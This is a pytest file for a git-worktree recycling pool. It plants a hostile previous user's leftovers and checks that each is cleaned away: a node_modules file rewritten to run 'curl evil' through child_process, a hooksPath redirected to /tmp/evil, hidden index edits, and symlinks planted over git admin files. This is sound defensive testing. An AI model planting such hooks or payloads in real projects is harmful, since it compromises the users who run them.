"""loopctl.worktree_pool: a recycled worktree is what a fresh one would be, whatever its last
maker left in it (real git repositories, real files, a hostile maker's leftovers)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from support.repos import git

from loopctl import worktree_pool
from loopctl.git import worktree_list as git_worktrees
from loopctl.seeds import tree_digest
from loopctl.worktrees import Known, ensure_worktree, worktree_path

LOOP = "fix"


@pytest.fixture
def project(repo: Path) -> Path:
    (repo / ".gitignore").write_text("node_modules/\n*.log\nbuild/\n")
    (repo / "src").mkdir()
    for index in range(30):
        (repo / "src" / f"m{index}.py").write_text(f"value = {index}\n")
    (repo / "package.json").write_text('{"name": "x"}\n')
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "project")
    return repo


def _ready(repo: Path, root: Path, task: str, base: str = "HEAD") -> Path:
    workspace = ensure_worktree(repo, root, LOOP, task, base)
    (workspace.path / "node_modules" / "dep").mkdir(parents=True)
    (workspace.path / "node_modules" / "dep" / "index.js").write_text("module.exports = 1\n")
    worktree_pool.mark_ready(
        repo, root, LOOP, workspace.path, preserve=["node_modules"], inputs_hash="h1"
    )
    return workspace.path


def _files(folder: Path, skip: tuple[str, ...] = (".git",)) -> dict[str, bytes]:
    found = {}
    for path in folder.rglob("*"):
        relative = path.relative_to(folder)
        if relative.parts[0] in skip or path.is_dir():
            continue
        found[relative.as_posix()] = path.read_bytes()
    return found


def _fresh(repo: Path, tmp_path: Path, base: str) -> Path:
    fresh = tmp_path / "fresh-checkout"
    git(repo, "worktree", "add", "-q", "--detach", str(fresh), base)
    return fresh


def _commit_change(repo: Path) -> str:
    (repo / "src" / "m1.py").write_text("value = 'changed upstream'\n")
    git(repo, "commit", "-q", "-am", "upstream change")
    return git(repo, "rev-parse", "HEAD").strip()


def test_a_recycled_worktree_has_exactly_the_files_of_a_fresh_one(
    project: Path, tmp_path: Path
) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    # The maker's leftovers: tracked edits and deletions, untracked and ignored files, a nested
    # repository, a file whose write permission it took away, a folder it locked.
    (old / "src" / "m2.py").write_text("value = 'maker edit'\n")
    (old / "src" / "m3.py").unlink()
    (old / "notes.txt").write_text("untracked\n")
    (old / "debug.log").write_text("ignored\n")
    (old / "build").mkdir()
    (old / "build" / "out.bin").write_bytes(b"\x00" * 10)
    subprocess.run(["git", "init", "-q", str(old / "vendor")], check=True)
    (old / "locked").mkdir()
    (old / "locked" / "inside.txt").write_text("x\n")
    (old / "locked").chmod(0o500)
    assert worktree_pool.release(project, root, LOOP, old, capacity=2)
    assert not old.exists()

    base = _commit_change(project)
    target = worktree_path(root, LOOP, "task-b")
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", base, ["node_modules"]
    )
    assert recycled is not None
    assert recycled.workspace.path == target
    assert recycled.intact == ("node_modules",)
    fresh = _fresh(project, tmp_path, base)
    assert _files(target, skip=(".git", "node_modules")) == _files(fresh)
    assert git(target, "status", "--porcelain", "--ignored") == "!! node_modules/\n"
    assert git(target, "rev-parse", "--abbrev-ref", "HEAD").strip() == "loop/fix/task-b"
    assert git(target, "rev-parse", "HEAD").strip() == base
    listed = git(project, "worktree", "list", "--porcelain")
    assert f"worktree {target}\n" in listed
    assert "branch refs/heads/loop/fix/task-a" not in listed  # that branch is free again


def test_only_the_files_that_differ_are_rewritten(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    before = {name: (old / "src" / name).stat().st_ino for name in ("m1.py", "m5.py")}
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    base = _commit_change(project)
    target = worktree_path(root, LOOP, "task-b")
    assert worktree_pool.acquire(project, root, LOOP, target, "loop/fix/task-b", base, [])
    assert (target / "src" / "m5.py").stat().st_ino == before["m5.py"]  # untouched
    assert (target / "src" / "m1.py").read_text() == "value = 'changed upstream'\n"


def test_an_edit_hidden_from_git_is_still_undone(project: Path, tmp_path: Path) -> None:
    """A maker that edits a tracked file, sets its mtime back and flags it in the index (which
    it can write) does not pass its edit to the next task: the index is loopctl's own copy, and
    the change time that moved with the edit cannot be set back."""
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    victim = old / "src" / "m4.py"
    times = victim.stat()
    victim.write_text("value = 9\n")  # same size as the original "value = 4\n"
    os.utime(victim, ns=(times.st_atime_ns, times.st_mtime_ns))
    git(old, "update-index", "--assume-unchanged", "src/m4.py")
    git(old, "update-index", "--skip-worktree", "src/m4.py")
    admin = worktree_pool.admin_folder(project, old)
    assert admin is not None
    (admin / "config.worktree").write_text("[core]\n\thooksPath = /tmp/evil\n")
    (admin / "refs").mkdir(exist_ok=True)
    (admin / "info").mkdir(exist_ok=True)
    (admin / "info" / "exclude").write_text("*\n")
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()
    assert worktree_pool.acquire(project, root, LOOP, target, "loop/fix/task-b", head, [])
    assert (target / "src" / "m4.py").read_text() == "value = 4\n"
    left = {p.name for p in admin.iterdir()}
    assert not left & {"config.worktree", "info", "refs"}  # (reset wrote ORIG_HEAD and logs)
    assert git(target, "ls-files", "-v", "src/m4.py").startswith("H ")  # no flags


@pytest.mark.parametrize("name", ["commondir", "gitdir", "HEAD"])
def test_a_link_planted_as_an_admin_file_is_never_written_through(
    project: Path, tmp_path: Path, name: str
) -> None:
    """The maker can write its worktree's git admin folder: a link it puts in place of a file
    loopctl rewrites there (`commondir`, `gitdir`, `HEAD`) is removed, not followed, so the
    file it points at keeps its content."""
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    admin = worktree_pool.admin_folder(project, old)
    assert admin is not None
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    victim = tmp_path / "elsewhere" / "victim.txt"
    victim.parent.mkdir()
    victim.write_text("the user's own file\n")
    (admin / name).unlink()
    (admin / name).symlink_to(victim)
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()

    worktree_pool.acquire(project, root, LOOP, target, "loop/fix/task-b", head, [])

    assert victim.read_text() == "the user's own file\n"
    assert not (admin / name).is_symlink()


def test_a_touched_preserved_folder_is_deleted_not_handed_on(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    planted = old / "node_modules" / "dep" / "index.js"
    stamp = planted.stat()
    planted.write_text("require('child_process').exec('curl evil')\n")
    os.utime(planted, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", head, ["node_modules"]
    )
    assert recycled is not None
    assert recycled.intact == ()
    assert recycled.discarded == ("node_modules",)
    assert not (target / "node_modules").exists()


@pytest.mark.parametrize("plant", ["symlink", "new-file", "nested-git"])
def test_a_preserved_folder_that_gained_anything_is_deleted(
    project: Path, tmp_path: Path, plant: str
) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("not loopctl's\n")
    if plant == "symlink":
        os.rename(old / "node_modules", tmp_path / "moved")
        (old / "node_modules").symlink_to(outside)
    elif plant == "new-file":
        (old / "node_modules" / ".hooks").write_text("x\n")
    else:
        subprocess.run(["git", "init", "-q", str(old / "node_modules" / "sub")], check=True)
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", head, ["node_modules"]
    )
    assert recycled is not None
    assert recycled.intact == ()
    assert not (target / "node_modules").exists()
    assert not (target / "node_modules").is_symlink()
    assert (outside / "keep.txt").read_text() == "not loopctl's\n"  # a symlink is not followed


def test_a_preserved_folder_left_alone_is_kept_as_it_was(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    digest = tree_digest(old / "node_modules")
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    target = worktree_path(root, LOOP, "task-b")
    base = _commit_change(project)
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", base, ["node_modules"]
    )
    assert recycled is not None
    assert recycled.inputs_hash == "h1"
    assert tree_digest(target / "node_modules") == digest


def test_the_pool_holds_at_most_its_capacity(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    first = _ready(project, root, "task-a")
    second = _ready(project, root, "task-b")
    assert worktree_pool.release(project, root, LOOP, first, capacity=1)
    assert not worktree_pool.release(project, root, LOOP, second, capacity=1)
    assert second.exists()
    pooled = worktree_pool.list_pool(root)
    assert [p.loop for p in pooled] == [LOOP]
    assert pooled[0].bytes > 0


def test_a_worktree_never_marked_ready_is_not_pooled(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    workspace = ensure_worktree(project, root, LOOP, "task-a", "HEAD")
    assert not worktree_pool.release(project, root, LOOP, workspace.path, capacity=3)


def test_prune_pool_removes_parked_worktrees_and_git_forgets_them(
    project: Path, tmp_path: Path
) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    removed = worktree_pool.prune_pool(project, root)
    assert len(removed) == 1
    assert not removed[0].exists()
    assert git(project, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert worktree_pool.list_pool(root) == []


def test_a_pooled_worktree_that_cannot_be_cleaned_gives_way_to_none(
    project: Path, tmp_path: Path
) -> None:
    """A record that no longer matches (here: deleted) means the pooled worktree is removed
    and the caller makes a fresh one."""
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    for record in (worktree_pool.pool_folder(root, LOOP) / "state").iterdir():
        record.unlink()
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()
    assert worktree_pool.acquire(project, root, LOOP, target, "loop/fix/task-b", head, []) is None
    assert worktree_pool.list_pool(root) == []
    assert git(project, "worktree", "list", "--porcelain").count("worktree ") == 1


def test_a_branch_checked_out_elsewhere_is_not_recycled_onto(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    assert worktree_pool.release(project, root, LOOP, old, capacity=1)
    git(project, "branch", "loop/fix/task-b")
    git(project, "worktree", "add", "-q", str(tmp_path / "mine"), "loop/fix/task-b")
    target = worktree_path(root, LOOP, "task-b")
    head = git(project, "rev-parse", "HEAD").strip()
    assert worktree_pool.acquire(project, root, LOOP, target, "loop/fix/task-b", head, []) is None
    assert not target.exists()
    assert len(worktree_pool.list_pool(root)) == 1  # still there for another task


def test_what_the_caller_knows_recycles_the_same_way(project: Path, tmp_path: Path) -> None:
    """The engine hands on what it has just asked git (top folder, worktree list, a new branch,
    the shared git dir): the recycled worktree is the same as when the pool asks itself, and
    the parked one was left detached at the commit the caller named."""
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    first = git(project, "rev-parse", "HEAD").strip()
    base = _commit_change(project)
    assert worktree_pool.release(project, root, LOOP, old, capacity=2, head=first)
    (parked,) = (root / ".pool" / LOOP / "idle").iterdir()
    common = Path(git(project, "rev-parse", "--path-format=absolute", "--git-common-dir").strip())
    assert (common / "worktrees" / parked.name / "HEAD").read_text() == first + "\n"

    known = Known(project, git_worktrees(project), branch_is_new=True, common=common.resolve())
    target = worktree_path(root, LOOP, "task-b")
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", base, ["node_modules"], known
    )
    assert recycled is not None
    assert recycled.workspace.at_base
    assert git(target, "rev-parse", "HEAD").strip() == base
    assert git(target, "rev-parse", "--abbrev-ref", "HEAD").strip() == "loop/fix/task-b"
    assert _files(target, skip=(".git", "node_modules")) == _files(_fresh(project, tmp_path, base))


def test_a_stale_claim_that_the_branch_is_new_never_moves_it(project: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    old = _ready(project, root, "task-a")
    assert worktree_pool.release(project, root, LOOP, old, capacity=2)
    tip = git(project, "rev-parse", "HEAD").strip()
    base = _commit_change(project)
    git(project, "branch", "loop/fix/task-b", tip)  # made after the caller asked
    known = Known(project, git_worktrees(project), branch_is_new=True)
    target = worktree_path(root, LOOP, "task-b")
    recycled = worktree_pool.acquire(
        project, root, LOOP, target, "loop/fix/task-b", base, [], known
    )
    # The pooled worktree cannot be made fresh on that claim: it is dropped, never the branch.
    assert recycled is None
    assert git(project, "rev-parse", "loop/fix/task-b").strip() == tip
